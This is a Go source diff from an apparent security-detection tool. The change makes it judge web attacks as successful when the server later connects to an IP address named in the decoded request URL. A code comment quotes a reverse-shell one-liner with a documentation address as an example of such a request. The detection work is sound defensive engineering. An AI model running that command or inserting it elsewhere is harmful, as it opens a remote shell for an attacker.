@@ -4,6 +4,8 @@ import (
 	"cmp"
 	"context"
 	"fmt"
+	"net/url"
+	"regexp"
 	"slices"
 	"strings"
 	"time"
@@ -135,7 +137,13 @@ func webOutcome(ctx context.Context, c *court, n *node) (*webCase, error) {
 	}
 
 	// Whom the server called.
-	for _, source := range outside(n.f.Entities.Sources) {
+	called := outside(n.f.Entities.Sources)
+	for _, a := range namedAddresses(answered) { // "bash -i >& /dev/tcp/192.0.2.9/443": the request says whom to call
+		if !slices.Contains(called, a) {
+			called = append(called, a)
+		}
+	}
+	for _, source := range called {
 		// Sensors write of a connection when it has ended, which may be hours later.
 		calls, err := c.store.flows(ctx, c.owns[host], []string{source}, span{s.from, s.to + int64(callReach)}, 200)
 		if err != nil {
@@ -147,7 +155,11 @@ func webOutcome(ctx context.Context, c *court, n *node) (*webCase, error) {
 		})
 		if len(calls) > 0 {
 			r := calls[0]
-			text := fmt.Sprintf("%s, and %s opened a connection to the attacker's address %s (port %s) at %s", ok, show(r.source), show(r.destination), show(cmp.Or(r.port, "unknown")), clock(r.began()))
+			whose := "the attacker's address"
+			if !slices.Contains(n.f.Entities.Sources, source) {
+				whose = "the address that a request names,"
+			}
+			text := fmt.Sprintf("%s, and %s opened a connection to %s %s (port %s) at %s", ok, show(r.source), whose, show(r.destination), show(cmp.Or(r.port, "unknown")), clock(r.began()))
 			n.verdict = verdict{result: Succeeded, followed: calls[:min(len(calls), 10)], why: []Sentence{{sentence(text), cite(idsOf(answered[:min(len(answered), attempts)]), idsOf(calls[:min(len(calls), 10)]))}}}
 			return nil, nil
 		}
@@ -352,5 +364,31 @@ func programName(r *record) string {
 
 // programPhrase names what was run: the command line where there is one.
 func programPhrase(r *record) string {
-	return `"` + show(cmp.Or(r.command, r.executable, r.process, r.message)) + `"`
+	p := show(cmp.Or(r.command, r.executable, r.process, r.message))
+	if strings.HasPrefix(p, `"`) {
+		return p
+	}
+	return `"` + p + `"`
 }
+
+// namedAddresses returns up to five addresses outside that the requests' text
+// names, as attacks name the host that is to be called or fetched from.
+func namedAddresses(rs []record) []string {
+	var found []string
+	for i := range rs {
+		text := rs[i].url
+		for range 2 { // some encode twice
+			if t, err := url.QueryUnescape(text); err == nil {
+				text = t
+			}
+		}
+		for _, m := range dotted.FindAllString(text, 20) {
+			if a, ok := parseAddress(m); ok && isOutside(a) && !slices.Contains(found, a.String()) && len(found) < 5 {
+				found = append(found, a.String())
+			}
+		}
+	}
+	return found
+}
+
+var dotted = regexp.MustCompile(`\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b`)
